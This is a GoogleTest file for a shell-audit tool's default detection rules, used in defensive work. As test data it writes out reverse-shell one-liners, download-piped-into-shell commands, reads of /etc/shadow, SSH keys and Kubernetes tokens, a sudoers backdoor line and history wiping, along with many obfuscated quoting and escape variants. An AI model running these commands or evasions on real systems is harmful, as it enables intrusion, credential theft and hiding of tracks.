// SPDX-License-Identifier: Apache-2.0
// The shipped default rules: each fires on what it is about and not on a look-alike.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "shaudit/rules.h"

using shaudit::json::Array;
using shaudit::json::Object;

namespace {

const shaudit::rules::RuleSet& rules() {
  static auto r = shaudit::rules::load_rules({SHAUDIT_DEFAULT_RULES});
  static const shaudit::rules::RuleSet none;  // a failed load fails every test, cleanly
  if (!r) ADD_FAILURE() << r.message();
  return r ? *r : none;
}

Object typed(const std::string& text, bool container = false) {
  Object o{{"type", "command"}, {"text", text}, {"user", "alice"}, {"session", "0123456789abcdef"},
           {"shell", "bash"},   {"pid", 42}};
  if (container) o["container"] = Object{{"id", std::string(64, 'c')}, {"runtime", "runc"}};
  return o;
}

Object exec(std::vector<std::string> argv) {
  Array a;
  for (auto& s : argv) a.emplace_back(s);
  return Object{{"type", "exec"},
                {"argv", std::move(a)},
                {"path", argv.empty() ? "" : argv[0]},
                {"user", "alice"},
                {"pid", 43}};
}

Object bypass(const std::string& kind) {
  return Object{{"type", "bypass"},
                {"kind", kind},
                {"pid", 44},
                {"exe", "/bin/sh"},
                {"argv", Array{"/bin/sh", "-c", "id"}},
                {"session", "0123456789abcdef"}};
}

std::vector<std::string> fired(const Object& rec, const char* joined = nullptr) {
  shaudit::rules::EvalContext ctx;
  ctx.hostname = "host1";
  if (joined) ctx.cmd_text = joined;
  std::vector<std::string> names;
  for (const auto& m : rules().evaluate(rec, ctx)) names.push_back(m.rule);
  return names;
}

using V = std::vector<std::string>;

TEST(DefaultRules, LoadAll) {
  EXPECT_EQ(rules().rule_count(), 13u);
}

TEST(DefaultRules, WriteBelowEtc) {
  EXPECT_EQ(fired(typed("echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers")),
            V{"Write below etc by redirection"});
  EXPECT_EQ(fired(typed("cat /etc/hosts > /tmp/hosts")), V{});
  EXPECT_EQ(fired(typed("grep x < /etc/passwd")), V{});
}

TEST(DefaultRules, WriteBelowBinaryDirectory) {
  EXPECT_EQ(fired(typed("echo evil > /usr/local/bin/ls")),
            V{"Write below binary directory by redirection"});
  EXPECT_EQ(fired(typed("ls /usr/bin > list.txt")), V{});
}

TEST(DefaultRules, ReadShadowOrKeys) {
  EXPECT_EQ(fired(typed("sudo cat /etc/shadow")), V{"Read shadow or private keys"});
  EXPECT_EQ(fired(typed("cp ~/.ssh/id_ed25519 /tmp/k")), V{"Read shadow or private keys"});
  EXPECT_EQ(fired(exec({"cat", "/etc/shadow"})), V{"Read shadow or private keys"});
  EXPECT_EQ(fired(typed("cat ~/.ssh/id_ed25519.pub")), V{});
  EXPECT_EQ(fired(typed("cat /etc/passwd")), V{});
}

TEST(DefaultRules, DownloadIntoShell) {
  EXPECT_EQ(fired(typed("curl -fsSL https://x.example/i.sh | sudo bash")),
            V{"Download piped into a shell"});
  // Split across lines: the joined logical command still matches.
  Object last = typed("| sh");
  last["continuation"] = true;
  EXPECT_EQ(fired(last, "curl http://x.example/i.sh \\\n| sh"), V{"Download piped into a shell"});
  EXPECT_EQ(fired(last), V{});  // the line alone does not
  EXPECT_EQ(fired(typed("curl -o file https://x.example/i.sh")), V{});
  EXPECT_EQ(fired(typed("cat notes | shasum")), V{});
}

TEST(DefaultRules, ReverseShell) {
  EXPECT_EQ(fired(typed("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")), V{"Reverse shell one-liner"});
  EXPECT_EQ(fired(typed("nc -e /bin/sh 10.0.0.1 4444")), V{"Reverse shell one-liner"});
  EXPECT_EQ(fired(typed("sh -i < /dev/udp/10.0.0.1/53")), V{"Reverse shell one-liner"});
  EXPECT_EQ(fired(typed("nc -zv 10.0.0.1 22")), V{});
}

TEST(DefaultRules, ClearHistory) {
  EXPECT_EQ(fired(typed("history -c")), V{"Clear or disable shell history"});
  EXPECT_EQ(fired(typed("unset HISTFILE")), V{"Clear or disable shell history"});
  EXPECT_EQ(fired(typed("rm -f ~/.bash_history")), V{"Clear or disable shell history"});
  EXPECT_EQ(fired(typed("history | tail")), V{});
  EXPECT_EQ(fired(typed("echo $HISTFILE")), V{});
}

TEST(DefaultRules, ServiceAccountToken) {
  EXPECT_EQ(fired(typed("cat /var/run/secrets/kubernetes.io/serviceaccount/token")),
            V{"Read Kubernetes service account token"});
  EXPECT_EQ(fired(exec({"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"})),
            V{"Read Kubernetes service account token"});
  EXPECT_EQ(fired(typed("ls /var/run/secrets")), V{});
}

TEST(DefaultRules, PackageInstallInContainer) {
  EXPECT_EQ(fired(typed("apt-get install -y netcat", true)), V{"Package install in a container"});
  EXPECT_EQ(fired(typed("apt-get install -y netcat", false)), V{});  // a host, not a container
  EXPECT_EQ(fired(typed("apt-get update", true)), V{});
}

// Quoting, escapes, $'..', brace lists and variables do not hide what a line does: each
// variant fires the named rule (others may fire too: an obfuscated command name is a rule of
// its own).
struct Variant {
  const char* text;
  const char* rule;
  bool container = false;
};

const char* const kEtc = "Write below etc by redirection";
const char* const kBin = "Write below binary directory by redirection";
const char* const kShadow = "Read shadow or private keys";
const char* const kDownload = "Download piped into a shell";
const char* const kReverse = "Reverse shell one-liner";
const char* const kHistory = "Clear or disable shell history";
const char* const kToken = "Read Kubernetes service account token";
const char* const kPackage = "Package install in a container";
const char* const kObfuscated = "Command name obfuscated by quoting or expansion";

const Variant kVariants[] = {
    {R"(echo x >"/etc/x")", kEtc},
    {R"(echo x >'/etc/passwd')", kEtc},
    {R"(echo x > \/etc/x)", kEtc},
    {R"(echo x >"/e"tc/cron.d/x)", kEtc},
    {R"(echo x >$'\x2fetc/x')", kEtc},
    {R"(echo x >$'\057etc/x')", kEtc},
    {R"(echo x > /{etc,tmp}/x)", kEtc},
    {R"(d=/etc; echo x >> $d/sudoers)", kEtc},
    {R"(d=etc; echo x >/${d}/cron.d/x)", kEtc},
    {R"(echo x >//etc/x)", kEtc},
    {R"(>"/etc/x" echo x)", kEtc},
    {R"(echo x >"/usr/local/bin/ls")", kBin},
    {R"(echo x > /usr/'bin'/ls)", kBin},
    {R"(echo x > /usr/b\in/ls)", kBin},
    {R"(echo x > $'/usr/\x62in/ls')", kBin},
    {R"(echo x > /usr/{s,}bin/ls)", kBin},
    {R"(b=/usr/bin; echo x > $b/ls)", kBin},
    {R"(cat /etc/"shadow")", kShadow},
    {R"(cat '/etc/shadow')", kShadow},
    {R"(cat /etc/sh\adow)", kShadow},
    {R"(cat $'/etc/\x73hadow')", kShadow},
    {R"(cat $'/etc/\163hadow')", kShadow},
    {R"(cat /etc/{passwd,shadow})", kShadow},
    {R"(f=shadow; cat /etc/$f)", kShadow},
    {R"(s=/etc/gshadow; cat ${s})", kShadow},
    {R"(cat ~/.ssh/"id_rsa")", kShadow},
    {R"(cp ~/.ssh/id_{rsa,ed25519} /tmp)", kShadow},
    {R"(cat ~/.ssh/id_\rsa)", kShadow},
    {R"(cat ~/.ssh/$'id_\x72sa')", kShadow},
    {R"(k=id_ecdsa; cat ~/.ssh/$k)", kShadow},
    {R"(curl -s http://x |"ba"sh)", kDownload},
    {R"(curl -s http://x | b'a'sh)", kDownload},
    {R"(curl -s http://x | ba\sh)", kDownload},
    {R"(c\url -s http://x | sh)", kDownload},
    {R"("curl" -s http://x | "sh")", kDownload},
    {R"(curl -s http://x | $'\x62ash')", kDownload},
    {R"(curl -s http://x | $'\142ash')", kDownload},
    {R"(curl -s http://x | {ba,}sh)", kDownload},
    {R"(a=ba; curl -s http://x | $a"sh")", kDownload},
    {R"(a=ba; curl -s http://x | ${a}sh)", kDownload},
    {R"(wget -qO- http://x |sudo  "bash")", kDownload},
    {R"(curl -s http://x | /bin/"bash")", kDownload},
    {R"(bash <(cu"rl" -s http://x))", kDownload},
    {R"x(sh -c "$(curl -fsSL http://x)")x", kDownload},
    {R"(bash -i >& /dev/"tcp"/10.0.0.1/4444 0>&1)", kReverse},
    {R"(bash -i >& /dev/tc\p/10.0.0.1/4444 0>&1)", kReverse},
    {R"(cat < /dev/$'\x74cp'/10.0.0.1/80)", kReverse},
    {R"(c=tcp; echo > /dev/$c/1.2.3.4/80)", kReverse},
    {R"(x=dev; exec 3<>/$x/tcp/h/80)", kReverse},
    {R"(bash -i >& /dev/{tcp,udp}/h/1)", kReverse},
    {R"(bash -i >& //dev//tcp/h/1)", kReverse},
    {R"("nc" -e /bin/sh 10.0.0.1 4444)", kReverse},
    {R"(nc "-e" /bin/sh 10.0.0.1 4444)", kReverse},
    {R"(n\c -e /bin/sh 10.0.0.1 4444)", kReverse},
    {R"(ncat --sh-exec "bash" 10.0.0.1 4444)", kReverse},
    {R"($'\x6ec' -e /bin/sh 10.0.0.1 4444)", kReverse},
    {R"(nc -{e,} /bin/sh 10.0.0.1 4444)", kReverse},
    {R"(o=-e; nc $o /bin/sh 10.0.0.1 4444)", kReverse},
    {R"(h"istory" -c)", kHistory},
    {R"(hist'ory' -c)", kHistory},
    {R"(his\tory -c)", kHistory},
    {R"($'\x68istory' -c)", kHistory},
    {R"(history "-c")", kHistory},
    {R"(ls; h'istory' -c)", kHistory},
    {R"(H=hist; ${H}ory -c)", kHistory},
    {R"(unset "HISTFILE")", kHistory},
    {R"(unset HIST\FILE)", kHistory},
    {R"(export HISTFILE="/dev/null")", kHistory},
    {R"(HISTSIZE='0')", kHistory},
    {R"(rm -f ~/.bash"_history")", kHistory},
    {R"(set +o "history")", kHistory},
    {R"({history,} -c)", kHistory},
    {R"(bash -c 'h"istory" -c')", kHistory},
    {R"x(sh -c "cu\"rl\" -s http://x | ba\sh")x", kDownload},
    {R"(sudo bash -c 'cat /etc/"shadow"')", kShadow},
    {R"(cat /var/run/secrets/kubernetes.io/"serviceaccount"/token)", kToken},
    {R"(cat /var/run/secrets/kubernetes.io/service\account/token)", kToken},
    {R"(d=/var/run/secrets/kubernetes.io; cat $d/serviceaccount/token)", kToken},
    {R"(cat /run/secrets/kubernetes.io/serviceaccount/{token,ca.crt})", kToken},
    {R"(cat $'/var/run/secrets/kubernetes.io/serviceaccount/\x74oken')", kToken},
    {R"(apt-get "install" -y netcat)", kPackage, true},
    {R"("apt-get" install netcat)", kPackage, true},
    {R"(apt-get inst\all netcat)", kPackage, true},
    {R"(apt-get -y $'install' netcat)", kPackage, true},
    {R"(i=install; apk $i curl)", kPackage, true},
    {R"(pip {install,-q} requests)", kPackage, true},
    {R"(h"istory" -c)", kObfuscated},
    {R"(c\url -s http://x)", kObfuscated},
    {R"($'\x62ash' -i)", kObfuscated},
    {R"(a=ba; $a"sh" -i)", kObfuscated},
    {R"(ba$x -i)", kObfuscated},
};

TEST(DefaultRules, QuotedEscapedAndSplitVariantsFire) {
  size_t missed = 0;
  for (const auto& v : kVariants) {
    auto names = fired(typed(v.text, v.container));
    bool hit = std::find(names.begin(), names.end(), v.rule) != names.end();
    if (!hit) ++missed;
    EXPECT_TRUE(hit) << v.text << " did not fire " << v.rule;
  }
  EXPECT_EQ(missed, 0u) << "of " << std::size(kVariants);
}

TEST(DefaultRules, VariablesOfTheSessionAndJoinedLines) {
  shaudit::shell::Vars session{{"p", "/dev/tcp"}, {"a", "ba"}};
  shaudit::rules::EvalContext ctx;
  ctx.shell_vars = &session;
  auto names = [&](const Object& rec) {
    std::vector<std::string> n;
    for (const auto& m : rules().evaluate(rec, ctx)) n.push_back(m.rule);
    return n;
  };
  EXPECT_EQ(names(typed("cat < $p/10.0.0.1/80")), V{kReverse});
  EXPECT_EQ(names(typed("curl -s http://x | ${a}sh")), (V{kDownload, kObfuscated}));
  // A command split over lines, quoted on its second: the joined command matches.
  Object last = typed("| \"ba\"sh");
  last["continuation"] = true;
  ctx.cmd_text = "curl http://x.example/i.sh \\\n| \"ba\"sh";
  EXPECT_EQ(names(last), (V{kDownload, kObfuscated}));
}

// Ordinary lines, some mentioning what the rules look for as data: no rule fires.
TEST(DefaultRules, OrdinaryLinesDoNotFire) {
  const char* const kLines[] = {
      R"(echo "history -c is bad")",
      R"(grep 'unset HISTFILE' notes.txt)",
      R"(git commit -m "history -c, then set +o history")",
      "history | tail",
      "history 20",
      "echo $HISTFILE",
      "cat /etc/hosts > /tmp/hosts",
      "grep x < /etc/passwd",
      "ls /usr/bin > list.txt",
      "cat ~/.ssh/id_ed25519.pub",
      "cat /etc/passwd",
      "ls -l /etc/shadowsocks",
      "nc -zv 10.0.0.1 22",
      "curl -o file https://x.example/i.sh",
      "curl -s http://x | jq .",
      "cat notes | shasum",
      "ssh host 'ls /etc'",
      R"("ls" -l)",
      R"(\ls -l)",
      "$EDITOR notes.txt",
      R"("$HOME"/bin/tool --help)",
      "$HOME/bin/tool",
      "./configure --prefix=/usr && make -j4",
      R"(for f in *.c; do gcc -c "$f"; done)",
      R"(export PATH="$HOME/bin:$PATH")",
      R"(python3 -c 'print("a > /tmp/x")')",
      "ls /var/run/secrets",
      "apt-get install -y netcat",  // a host, not a container
      "cat <<EOF > /tmp/notes\nremember: rm -f ~/.bash_history is logged\nEOF",
  };
  for (const char* l : kLines) EXPECT_EQ(fired(typed(l)), V{}) << l;
  EXPECT_EQ(fired(typed("apt-get update", true)), V{});
  EXPECT_EQ(fired(typed("pip list", true)), V{});
  // A readline program's line is not shell syntax: no obfuscated command name there.
  Object py = typed(R"(print(f"x={x}"))");
  py["shell"] = "python3";
  py["kind"] = "repl";
  EXPECT_EQ(fired(py), V{});
  py["shell"] = "ksh93";
  py.erase("kind");
  EXPECT_EQ(fired(py), V{kObfuscated});  // (a shell would read it so)
}

TEST(DefaultRules, EveryBypassKind) {
  EXPECT_EQ(fired(bypass("unreported_exec")), V{"Unreported exec (bypass)"});
  EXPECT_EQ(fired(bypass("unhooked_process")), V{"Process without the interposer (bypass)"});
  EXPECT_EQ(fired(bypass("unreported_input")), V{"Typed line nobody reported (bypass)"});
  EXPECT_EQ(fired(bypass("forged_report")), V{"Forged report (bypass)"});
  EXPECT_EQ(fired(typed("unreported_exec")), V{});
}

TEST(DefaultRules, OutputIsRendered) {
  shaudit::rules::EvalContext ctx;
  auto m = rules().evaluate(typed("sudo cat /etc/shadow"), ctx);
  ASSERT_EQ(m.size(), 1u);
  EXPECT_EQ(m[0].output, "alice read credentials (session 0123456789abcdef): sudo cat /etc/shadow");
  // The same rule on an exec record shows its argv: no field renders as <NA> in either.
  Object x = exec({"cat", "/etc/shadow"});
  x["session"] = "0123456789abcdef";
  m = rules().evaluate(x, ctx);
  ASSERT_EQ(m.size(), 1u);
  EXPECT_EQ(m[0].output, "alice read credentials (session 0123456789abcdef): cat /etc/shadow");
}

TEST(DefaultRules, NoOutputShowsAMissingField) {
  // Each default rule, fired by a record of the kind it is written for, renders every field.
  shaudit::rules::EvalContext ctx;
  ctx.hostname = "host1";
  std::vector<Object> recs = {typed("sudo cat /etc/shadow"),
                              typed("echo x > /etc/passwd"),
                              typed("cp x /usr/bin/y"),
                              typed("curl -s http://x | sh"),
                              typed("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
                              typed("history -c"),
                              exec({"cat", "/etc/shadow"})};
  std::vector<std::string> fired;
  for (auto& r : recs) {
    r["session"] = "0123456789abcdef";
    for (const auto& m : rules().evaluate(r, ctx)) {
      fired.push_back(m.rule);
      EXPECT_EQ(m.output.find("<NA>"), std::string::npos) << m.rule << ": " << m.output;
    }
  }
  // (The rules fired, so the check above saw their outputs.)
  EXPECT_EQ(fired, (std::vector<std::string>{
                       "Read shadow or private keys", "Write below etc by redirection",
                       "Download piped into a shell", "Reverse shell one-liner",
                       "Clear or disable shell history", "Read shadow or private keys"}));
}

}  // namespace
